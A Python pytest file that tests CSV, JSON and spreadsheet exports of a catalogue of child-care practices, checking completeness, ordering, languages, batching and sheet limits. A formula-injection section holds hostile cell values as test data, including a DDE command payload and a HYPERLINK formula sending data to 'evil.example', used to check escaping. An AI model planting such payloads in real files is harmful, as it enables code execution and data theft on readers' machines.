"""Files of any query: what is seen is what is exported, whole, in the same order, and safe to open."""

import csv
import io
import json
from datetime import date, datetime
from itertools import islice

import openpyxl
import pytest
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext

from lib.signs import FORMULA
from practices import in_turn, index
from practices.filters import SORTS, find_practices
from practices.formats import csv_file, json_file, rows, xlsx_file
from practices.formats.columns import columns
from practices.models import Practice
from practices.terms import vocabulary_of
from tests.catalogue import entry, publish, revise, starter_entries, take_down
from tests.pages import body, shown

BROWSE = "/en/practices/"
BASE = f"https://childfirst.example{BROWSE}"
KINDS = ("csv", "json", "xlsx")
ARABIC, CHINESE = "رعاية الأطفال في المجتمع بدل احتجازهم", "儿童社区照料代替拘留"
QUERIES = (
    *("", "country=th", "q=zebra", "q=child", "country=th&country=ke&scope=national", "q=xyzzy"),
    *("practice=thai&practice=both", "since=2004&until=2011", "q=child&page=2"),
    *(f"sort={sort}" for sort in SORTS),
    *(f"q=child&sort={sort}" for sort in SORTS),
)


@pytest.fixture
def five(empty_catalogue):
    publish(
        entry("hidden", title="A hidden one", countries=["TH"]),
        entry("thai", title="école ouverte", countries=["TH"], start="2005", end="2010", stage="ended"),
        entry("kenyan", title="Zebra crossing", countries=["KE"], start="2012-03", liberty="restricted"),
        entry("both", title="Écluse", countries=["TH", "KE"], start="", scope="regional"),
        entry("arabic", title=ARABIC, countries=["MA"], start="2003-07-31"),
        entry("chinese", title=CHINESE, countries=["CN"], start="2001"),
    )
    take_down("hidden")


def get(client, kind, query="", language="en"):
    return client.get(f"/{language}/practices/export.{kind}?{query}")


def csv_rows(response):
    text = body(response)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), strict=True))


def book(response):
    return openpyxl.load_workbook(io.BytesIO(response.getvalue()))


def sheet_rows(sheet):
    heading, *lines = sheet.iter_rows(values_only=True)
    return [dict(zip(heading, line, strict=True)) for line in lines]


def xlsx_rows(response):
    """The practices of a spreadsheet under the names that CSV gives the columns."""
    names = [column.name for column in columns(vocabulary_of(index.current()), BASE)]
    return [dict(zip(names, row.values(), strict=True)) for row in sheet_rows(book(response).worksheets[0])]


READ = {"csv": csv_rows, "json": lambda response: json.loads(body(response))["results"], "xlsx": xlsx_rows}


def slugs(client, kind, query="", language="en"):
    return [row["slug"] for row in READ[kind](get(client, kind, query, language))]


# What is seen is what is exported -------------------------------------------------------------------------------------


@pytest.mark.parametrize("query", QUERIES)
def test_every_file_holds_what_the_page_shows_in_the_same_order(five, client, query):
    seen = shown(client.get(f"{BROWSE}?{query.removesuffix('&page=2')}"))
    assert {kind: slugs(client, kind, query) for kind in KINDS} == dict.fromkeys(KINDS, seen)
    assert "hidden" not in seen


def test_titles_sort_as_the_reader_of_the_address_sees_them(starter_catalogue, client):
    pages = [shown(client.get(f"/fr/practices/?sort=title&page={number}")) for number in range(1, 6)]
    in_pages = [slug for page in pages for slug in page]
    assert len(in_pages) == 83
    assert [slugs(client, kind, "sort=title", "fr") for kind in KINDS] == [in_pages] * 3


def test_json_holds_all_pages_and_the_entries_as_they_were_loaded(starter_catalogue, client):
    response = get(client, "json", "sort=start&page=2")
    assert (response["Content-Type"], response.streaming) == ("application/json; charset=utf-8", True)
    exported = json.loads(body(response))
    assert (exported["count"], exported["query"]) == (83, {"sort": ["start"]})
    in_pages = [slug for number in range(1, 6) for slug in shown(client.get(f"{BROWSE}?sort=start&page={number}"))]
    assert [one["slug"] for one in exported["results"]] == in_pages
    entries = {one["slug"]: one for one in starter_entries()}
    practices = {practice.slug: practice for practice in Practice.objects.all()}
    for one in exported["results"]:
        practice = practices[one["slug"]]
        assert one == entries[one["slug"]] | {
            "url": f"{BASE}{one['slug']}/",
            "language": "en",
            "provenance": "desk-research",
            "verified_on": None,
            "revision": 1,
            "published_at": one["published_at"],
            "updated_at": one["updated_at"],
        }
        assert datetime.fromisoformat(one["published_at"]) == practice.published_at
        assert datetime.fromisoformat(one["updated_at"]) == practice.updated_at


FULL = {
    "countries": ["TH", "KE"],
    "scope": "regional",
    "locality": "Bangkok",
    "local_name": "บ้าน",
    "start": "2019-03-07",
    "end": "2020",
    "stage": "ended",
    "liberty": "restricted",
    "measure_types": ["guardianship", "foster-care"],
    "provisions": ["crc-37b"],
    "populations": ["girls", "families"],
    "keywords": ["a|b", "c; d"],
    "implementers": ["Ministry of Children", "Red Cross, Geneva"],
    "implementer_kinds": ["government", "ngo"],
    "reach": {"children": 1234, "note": "Counted twice."},
    "context": 'First.\n\nSecond, “quoted” and "quoted".',
    "sources": [
        {"title": "A report", "publisher": "An office", "year": 2020, "url": "https://report.example/1"},
        {"title": "A law", "publisher": "", "year": None, "url": ""},
    ],
}
ANSWERS = {
    f"safeguard_{slug.replace('-', '_')}": "yes" if slug == "guardian" else "not-stated"
    for slug in starter_entries()[0]["safeguard_answers"]
}
AS_CSV = {
    "title": "Practice full",
    "url": f"{BASE}full/",
    "summary": entry("full")["summary"],
    "translated_title": "",
    "translated_summary": "",
    "translation": "",
    "country_names": "Thailand | Kenya",
    "countries": "TH | KE",
    "scope": "regional",
    "locality": "Bangkok",
    "local_name": "บ้าน",
    "start": "2019-03-07",
    "start_year": "2019",
    "end": "2020",
    "end_year": "2020",
    "stage": "ended",
    "liberty": "restricted",
    "evidence": "documented",
    "measure_group_names": "Care and accommodation | Support and services",
    "measure_groups": "care | support",
    "measure_type_names": "Guardianship | Foster care",
    "measure_types": "guardianship | foster-care",
    "provision_names": "CRC 37(b)",
    "provisions": "crc-37b",
    "population_names": "Girls | Families with children",
    "populations": "girls | families",
    "implementers": "Ministry of Children | Red Cross, Geneva",
    "implementer_kind_names": "National government | Civil-society organisation",
    "implementer_kinds": "government | ngo",
    "reach_children": "1234",
    "reach_note": "Counted twice.",
    "context": FULL["context"],
    "description": "",
    "legal_basis": "",
    "safeguards": "",
    "results": "",
    "lessons": "",
    **ANSWERS,
    "safeguard_notes": "",
    "sources": "1. A report, An office, 2020, https://report.example/1\n2. A law",
    "files": "",
    "keywords": "a/b | c; d",
    "language": "en",
    "language_name": "English",
    "provenance": "desk-research",
    "submitted_by": "",
    "certainty": "high",
    "verified_on": "2026-03-09",
    "revision": "1",
    "permalink": f"{BASE}full/v1/",
    "published_at": "2026-01-02T03:04:05+00:00",
    "updated_at": "2026-01-02T03:04:05+00:00",
    "slug": "full",
}


@pytest.fixture
def full(empty_catalogue):
    publish(entry("full", yes=["guardian"], **FULL))
    moment = "2026-01-02T03:04:05Z"
    Practice.objects.update(verified_on=date(2026, 3, 9), published_at=moment, updated_at=moment)


def test_a_row_of_csv_whole(full, client):
    response = get(client, "csv")
    assert (response["Content-Type"], response["Content-Disposition"], response.streaming) == (
        "text/csv; charset=utf-8; header=present",
        'attachment; filename="child-first-practices.csv"',
        True,
    )
    assert response["Link"] == '<https://creativecommons.org/licenses/by/4.0/>; rel="license"'
    assert csv_rows(response) == [AS_CSV]
    assert body(get(client, "csv")).count("\r\n") == 2  # a heading and a row; breaks within a text stay as they are


def test_a_row_of_a_spreadsheet_whole_and_typed(full, client):
    """As in CSV, but numbers and dates are such, and what comes from a fixed list stands there by name."""
    [row] = xlsx_rows(get(client, "xlsx"))
    typed = {name: value or None for name, value in AS_CSV.items()} | {
        "scope": "Regional",
        "start": datetime(2019, 3, 7),
        "start_year": 2019,
        "end_year": 2020,
        "stage": "Ended",
        "liberty": "Liberty restricted",
        "evidence": "Documented by others",
        "reach_children": 1234,
        **{name: "Yes" if answer == "yes" else "Not stated" for name, answer in ANSWERS.items()},
        "provenance": "Desk research",
        "certainty": "High",
        "verified_on": datetime(2026, 3, 9),
        "revision": 1,
        "published_at": datetime(2026, 1, 2, 3, 4, 5),
        "updated_at": datetime(2026, 1, 2, 3, 4, 5),
    }
    assert row == typed


def test_a_spreadsheet_can_be_worked_with_at_once(full, client):
    practices, about, sources = book(get(client, "xlsx", "country=th&stage=ended&country=ke")).worksheets
    assert [sheet.title for sheet in (practices, about, sources)] == ["Practices", "About this file", "Sources"]
    for sheet in (practices, sources):
        assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("B2", sheet.dimensions)
        assert sheet["A1"].font.bold
    assert practices["B2"].hyperlink.target == f"{BASE}full/"
    assert [sources.cell(row, 7).hyperlink and sources.cell(row, 7).hyperlink.target for row in (2, 3)] == [
        "https://report.example/1",
        None,
    ]
    assert sheet_rows(sources)[0] == {
        "Practice": "Practice full",
        "Identifier": "full",
        "Number": 1,
        "Title": "A report",
        "Publisher": "An office",
        "Year": 2020,
        "Address": "https://report.example/1",
    }
    facts = [row[:2] for row in about.iter_rows(values_only=True)]
    assert facts[:3] == [
        ("What was asked for", "Country: Thailand, Kenya · Stage: Ended"),
        ("Address of the list", f"{BASE}?country=th&country=ke&stage=ended"),
        ("Practices", 1),
    ]
    assert about["B2"].hyperlink.target == f"{BASE}?country=th&country=ke&stage=ended"
    assert ("Title", "title") in facts and ("Identifier", "slug") in facts


NAMES = {"en": "Thailand", "fr": "Thaïlande", "es": "Tailandia", "ru": "Таиланд", "ar": "تايلند", "zh-hans": "泰国"}


@pytest.mark.parametrize("language", NAMES)
def test_files_speak_the_language_of_the_address(starter_catalogue, client, language):
    slug = "thailand-mou-alternatives-to-detention"
    [row] = csv_rows(get(client, "csv", f"practice={slug}", language))
    made = book(get(client, "xlsx", f"practice={slug}", language))
    practice = Practice.objects.get(slug=slug)
    translation = practice.translations.filter(language=language[:2]).first()
    expected = {
        "title": practice.title,
        "translated_title": translation.title if translation else "",
        "translation": "machine" if translation else "",
        "country_names": NAMES[language],
    }
    assert (translation is None) == (language == "en")
    assert {name: row[name] for name in expected} == expected
    _heading, in_sheet = made.worksheets[0].iter_rows(max_col=7, values_only=True)
    assert (in_sheet[0], in_sheet[3] or "", in_sheet[6]) == (
        expected["title"],
        expected["translated_title"],
        NAMES[language],
    )
    assert [bool(sheet.sheet_view.rightToLeft) for sheet in made.worksheets] == [language == "ar"] * 3


def test_texts_of_every_script_come_through_whole(five, client):
    for kind in KINDS:
        titles = {row["slug"]: row["title"] for row in READ[kind](get(client, kind))}
        assert (titles["arabic"], titles["chinese"]) == (ARABIC, CHINESE), kind


# What cannot be used, and what must not be there ----------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_a_file_is_refused_by_the_name_of_what_is_not_known(five, client, kind):
    response = get(client, kind, "country=th&country=xx&country=yy&since=soon&colour=blue&sort=best&practice=hidden")
    assert (response.status_code, response["Content-Type"]) == (400, "application/json")
    errors = json.loads(body(response))["errors"]
    assert {name: len(messages) for name, messages in errors.items()} == {
        "country": 2,
        "since": 1,
        "colour": 1,
        "sort": 1,
        "practice": 1,
    }
    assert ["xx" in errors["country"][0], "yy" in errors["country"][1]] == [True, True]


@pytest.mark.parametrize("kind", ["doc", "xls", "JSON", "csv.gz", "xlsx "])
def test_there_are_no_other_files(five, client, kind):
    assert get(client, kind).status_code == 404


def test_what_was_taken_down_is_in_no_file(five, client):
    for kind in KINDS:
        content = get(client, kind).getvalue()
        assert b"hidden" not in content, kind
        assert "hidden" not in slugs(client, kind), kind
    sources = sheet_rows(book(get(client, "xlsx")).worksheets[2])
    assert {row["Identifier"] for row in sources} == {"thai", "kenyan", "both", "arabic", "chinese"}


FORMULAS = (
    *("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "\n=1", " =1", "  \u00a0=1", "＝1+1", "＋1", "－1", "＠A1"),
    *("﹦1", "'=1", "''=1", "'\t1", "\u200b=1", "\u2066=1", '=HYPERLINK("https://evil.example?"&A1,"x")'),
    "=cmd|' /C calc'!A0",
)
HARMLESS = ("2019", "a=b", "'Ndrangheta", "1. First", "(=1)", "10-12", "", "é", "– a dash", "''")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_looks_like_a_formula_gets_an_apostrophe_that_can_be_taken_away(text):
    written = csv_file.cell(text)
    assert written == f"'{text}"
    assert FORMULA.match(written)  # so whoever reads knows that the apostrophe was put there


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert csv_file.cell(text) == text


def test_numbers_and_dates_are_no_formulas():
    assert [csv_file.cell(value) for value in (-5, 0, date(2019, 3, 7), None)] == [-5, 0, date(2019, 3, 7), None]


def test_no_cell_of_any_file_is_a_formula(empty_catalogue, client):
    texts = {"title": "=1+1", "context": "+cmd|' /C calc'!A0", "results": " ＝1", "locality": "@A1", "local_name": "-1"}
    source = {"title": "=2+2", "publisher": "+3", "year": None, "url": ""}
    publish(entry("bad", **texts, implementers=["=4"], keywords=["=5"], sources=[source]))
    [row] = csv_rows(get(client, "csv"))
    assert [name for name, cell in row.items() if FORMULA.match(cell) and cell[0] != "'"] == []
    assert {name: row[name] for name in texts} == {name: f"'{text}" for name, text in texts.items()}
    made = book(get(client, "xlsx"))
    cells = [cell for sheet in made for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n", "d"}
    [in_sheet] = xlsx_rows(get(client, "xlsx"))
    assert {name: in_sheet[name] for name in texts} == texts


# Any number in little memory ------------------------------------------------------------------------------------------


@pytest.fixture
def small_batches(five, monkeypatch):
    monkeypatch.setattr(rows, "BATCH", 2)


@pytest.mark.parametrize("kind", KINDS)
def test_rows_are_read_batch_by_batch(small_batches, client, kind):
    counts = {}
    for query in ("", "country=th&country=ke", "country=ma"):
        get(client, kind, query).getvalue()  # what a process reads once
        with CaptureQueriesContext(connection) as captured:
            get(client, kind, query).getvalue()
        counts[query] = len(captured) - 1  # the version of the catalogue
    assert counts == {"": 3, "country=th&country=ke": 2, "country=ma": 1}


@pytest.mark.parametrize("export", [csv_file, json_file])
def test_no_batch_is_read_before_the_one_before_it_was_taken(small_batches, export):
    found = find_practices(QueryDict(""))
    vocabulary_of(found.index)
    parts = export.document(found, BASE)
    with CaptureQueriesContext(connection) as captured:
        midway(parts)
        assert len(captured) == 1
        next(parts)
        assert len(captured) == 2


def midway(parts):
    """Take the heading and the first batch of a file."""
    return list(islice(parts, 2))


def test_a_practice_taken_down_midway_is_left_out_and_not_counted(small_batches):
    parts = json_file.document(find_practices(QueryDict("")), BASE)
    begun = midway(parts)
    take_down("thai")
    exported = json.loads("".join([*begun, *parts]))
    assert [row["slug"] for row in exported["results"]] == ["chinese", "arabic", "both", "kenyan"]
    assert exported["count"] == 4


def test_a_practice_replaced_midway_is_written_whole_as_it_is_by_then(small_batches):
    parts = csv_file.document(find_practices(QueryDict("")), BASE)
    begun = midway(parts)
    revise("thai", title="A new title", context="And a new context.")
    revise("chinese", title="Too late: this row was written")
    text = "".join([*begun, *parts])
    written = {row["slug"]: row for row in csv.DictReader(io.StringIO(text[1:], newline=""))}
    assert list(written) == ["chinese", "arabic", "both", "kenyan", "thai"]
    new = written["thai"]
    assert (new["title"], new["context"], new["revision"]) == ("A new title", "And a new context.", "2")
    assert (written["chinese"]["title"], written["chinese"]["revision"]) == (CHINESE, "1")


def test_a_batch_of_which_nothing_is_left_breaks_no_file(small_batches):
    parts = json_file.document(find_practices(QueryDict("sort=start")), BASE)
    for slug in ("chinese", "arabic"):
        take_down(slug)
    exported = json.loads("".join(parts))
    assert ([row["slug"] for row in exported["results"]], exported["count"]) == (["thai", "kenyan", "both"], 3)


# The limits of a spreadsheet ------------------------------------------------------------------------------------------


def test_spreadsheets_are_made_one_at_a_time_and_csv_meanwhile(five, client, monkeypatch):
    monkeypatch.setattr(in_turn, "SECONDS_TO_WAIT", 0.01)
    begun = get(client, "xlsx")
    refused = get(client, "xlsx", "country=ke")
    assert (refused.status_code, refused["Retry-After"]) == (503, "60")
    assert f"{BROWSE}export.csv?country=ke" in refused.content.decode()
    assert len(slugs(client, "csv")) == 5
    begun.getvalue()
    assert len(slugs(client, "xlsx")) == 5
    dropped = in_turn.InTurn(part for part in ())
    del dropped  # before any server had it
    assert len(slugs(client, "xlsx")) == 5


def test_a_sheet_that_can_hold_no_more_rows_says_so(five, client, monkeypatch):
    monkeypatch.setattr(xlsx_file, "MOST_ROWS", 4)
    made = book(get(client, "xlsx"))
    assert [row["slug"] for row in xlsx_rows(get(client, "xlsx"))] == ["chinese", "arabic", "both"]
    told = [row[:2] for row in made.worksheets[1].iter_rows(values_only=True)]
    limit = "A sheet holds at most 4 rows. The rest is left out here; CSV and JSON hold all."
    assert [row for row in told if row[1] == limit] == [("Practices", limit), ("Sources", limit)]
    assert ("Practices", 5) in told


def test_links_that_a_sheet_cannot_hold_stay_as_addresses(five, client, monkeypatch):
    monkeypatch.setattr(xlsx_file, "MOST_LINKS", 2)
    practices = book(get(client, "xlsx")).worksheets[0]
    cells = [practices.cell(row, 2) for row in range(2, 7)]
    assert [bool(cell.hyperlink) for cell in cells] == [True, True, False, False, False]
    assert [cell.value for cell in cells] == [f"{BASE}{slug}/" for slug in slugs(client, "csv")]


@pytest.mark.parametrize("sign", ["a", "童", "🪁"])
def test_a_text_too_long_for_a_cell_is_cut_and_marked(empty_catalogue, client, sign):
    publish(entry("short", context=sign * 16_383), entry("long", context=sign * 40_000))
    long, short = (row["context"] for row in xlsx_rows(get(client, "xlsx")))
    assert short == sign * 16_383
    kept, _, mark = long.partition(" [Cut")
    assert (set(kept), mark) == ({sign}, ": a cell holds no more. The page of the practice has the whole text.]")
    assert 32_760 <= len(long.encode("utf-16-le")) // 2 <= 32_767
    assert csv_rows(get(client, "csv"))[0]["context"] == sign * 40_000


def test_the_empty_catalogue_has_empty_files(empty_catalogue, client):
    assert json.loads(body(get(client, "json"))) == {"count": 0, "query": {}, "results": []}
    assert [slugs(client, kind) for kind in KINDS] == [[], [], []]
